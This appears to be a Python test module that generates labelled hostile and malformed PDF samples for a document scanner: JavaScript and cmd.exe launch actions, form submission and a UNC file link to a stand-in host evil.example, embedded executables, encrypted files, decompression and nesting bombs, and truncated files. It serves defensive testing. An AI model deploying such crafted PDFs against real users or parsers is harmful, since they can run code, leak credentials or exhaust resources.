"""PDFs that do something, carry something, or cost too much to open."""

import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.core import samples as some
from tests.doors.corpus.honest import by_hand
from tests.doors.corpus.sample import ANY, TAKEN, Sample

Change = Callable[[pikepdf.Pdf], Any]
SCRIPT = String("app.alert(1)")


def samples() -> Iterator[Sample]:
    """Programs, carriers, locks, bombs, ruins."""
    for title, change in _active():
        yield Sample(f"pdf: {title}", some.pdf(change=change), "active")
    hidden = {
        "compressed": {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
        "linear": {"linearize": True},
    }
    for title, how in hidden.items():
        yield Sample(
            f"pdf: a script, {title}", some.pdf(change=_opening("JavaScript", JS=SCRIPT), **how), "active"
        )
    script = by_hand(b"\n").replace(b"/Catalog", b"/Catalog/OpenAction<</S/J#61vaScript/J#53(x)>>")
    yield Sample("pdf: a script under an escaped name", script, "active")
    for name in ("račun.exe", "a.js", "a.pdf", "a.html", "a.docm", "noending", "a.json.exe"):
        yield Sample(f"pdf: carries {name}", some.carrying_pdf(name), "carrier")
    yield Sample("pdf: carries data", some.carrying_pdf("a.json"), TAKEN)
    yield Sample("pdf: locked", some.encrypted_pdf(), "encrypted")
    yield Sample("pdf: restricted", some.restricted_pdf(), "encrypted")
    yield Sample("pdf: too many pages", some.pdf(pages=501), "long")
    yield Sample("pdf: a page of two million points", some.huge_page_pdf(), "large")
    for title, content, outcome in _bombs():
        yield Sample(f"pdf: {title}", content, outcome)
    for title, content in _ruins():
        yield Sample(f"pdf: {title}", content, "broken")


def _opening(kind: str, **more: Any) -> Change:
    return lambda file: setattr(file.Root, "OpenAction", Dictionary(S=Name("/" + kind), **more))


def _noted(kind: str, **more: Any) -> Change:
    note = Dictionary(Type=Name.Annot, Subtype=Name("/" + kind), Rect=[0, 0, 9, 9], **more)
    return lambda file: setattr(file.pages[0].obj, "Annots", Array([note]))


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=SCRIPT)


def _scripted() -> Iterator[tuple[str, Change]]:
    yield "a script on opening", _opening("JavaScript", JS=SCRIPT)
    yield (
        "a script in a stream",
        lambda f: setattr(f.Root, "OpenAction", Dictionary(S=Name.JavaScript, JS=f.make_stream(b"x"))),
    )
    yield "a script without its kind", _opening("GoTo", JS=SCRIPT)
    yield (
        "a script among the names",
        lambda f: setattr(
            f.Root,
            "Names",
            Dictionary(JavaScript=Dictionary(Names=[String("a"), _script()])),
        ),
    )
    yield (
        "a script of a page",
        lambda f: setattr(f.pages[0].obj, "AA", Dictionary(O=Dictionary(S=Name.JavaScript, JS=SCRIPT))),
    )
    yield (
        "a script after another act",
        _opening("URI", Next=Array([_script()])),
    )
    yield "a script of a field", lambda f: setattr(
        f.Root, "AcroForm",
        Dictionary(Fields=[f.make_indirect(Dictionary(AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=SCRIPT))))]),
    )  # fmt: skip


def _active() -> Iterator[tuple[str, Change]]:
    yield from _scripted()
    yield "a program started", _opening("Launch", F=String("cmd.exe"))
    yield "a program behind a link", _noted("Link", A=Dictionary(S=Name.Launch, F=String("cmd.exe")))
    yield "a form sent", _opening("SubmitForm", F=String("https://evil.example"))
    yield "data fetched", _opening("ImportData", F=String("a.fdf"))
    yield "another file opened", _opening("GoToR", F=String("\\\\evil.example\\share\\a.pdf"), D=[0])
    yield "an embedded file opened", _opening("GoToE", D=[0])
    yield "a film by an act", _opening("Rendition", OP=0)
    yield "a film", _noted("RichMedia")
    yield "a screen", _noted("Screen")
    yield "a model", _noted("3D")
    yield "an old film", _noted("Movie")
    yield "a sound", _noted("Sound")
    yield "XFA", lambda f: setattr(f.Root, "AcroForm", Dictionary(XFA=f.make_stream(b"<xdp/>")))
    yield (
        "XFA in parts",
        lambda f: setattr(f.Root, "AcroForm", Dictionary(XFA=Array([String("a"), f.make_stream(b"<xdp/>")]))),
    )


def _bombs() -> Iterator[tuple[str, bytes, str]]:
    plain = by_hand(b"\n")
    deep = plain.replace(b"/Catalog", b"/Catalog/A " + b"[" * 60_000 + b"]" * 60_000)
    yield "sixty thousand lists in one another", deep, "broken|costly"
    yield (
        "a hundred thousand numbers",
        plain.replace(b"/Catalog", b"/Catalog/A[" + b"1 " * 100_000 + b"]"),
        ANY,
    )
    circle = plain.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[2 0 R 2 0 R 2 0 R]/Count 9")
    yield "pages that are their own", circle, "broken|costly"
    packed = zlib.compress(b"\0" * 300_000_000, 9)
    yield "a stream of 300 MB", some.pdf(change=lambda f: _attach(f, packed)), ANY
    yield "an objects' stream of 300 MB", _object_stream(packed), "broken|costly|large"
    chain = [Name.FlateDecode] * 40
    yield "forty filters", some.pdf(change=lambda f: _attach(f, packed, chain)), ANY


def _attach(file: pikepdf.Pdf, data: bytes, filters: list[Any] | None = None) -> None:
    stream = file.make_stream(b"")
    stream.write(data, filter=Array(filters or [Name.FlateDecode]))
    file.pages[0].obj.Contents = stream


def _object_stream(packed: bytes) -> bytes:
    """The page tree lies in a stream that grows three hundredfold when it is opened."""
    body = b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 2/First 20/Filter/FlateDecode/Length "
    body += b"%d>>stream\n" % len(packed) + packed + b"\nendstream\nendobj\n"
    rows = b"".join(bytes(row) for row in ((0, 0, 0, 0), (1, 0, 9, 0), (2, 0, 1, 0), (2, 0, 1, 1)))
    at = len(body)
    table = b"4 0 obj\n<</Type/XRef/Size 4/W[1 2 1]/Root 2 0 R/Length %d>>stream\n" % len(rows) + rows
    return body + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


def _ruins() -> Iterator[tuple[str, bytes]]:
    whole = some.pdf()
    yield "half of it", whole[: len(whole) // 2]
    yield "without its end", whole[:-8]
    yield "without pages", some.pdf(pages=0)
    yield "without a root", by_hand(b"\n").replace(b"/Root 1 0 R", b"")
    yield "only a header", b"%PDF-1.7\n" + b"\n" * 400 + b"%%EOF"
    yield "random after the header", b"%PDF-1.7\n" + bytes(range(256)) * 30 + b"\n%%EOF"
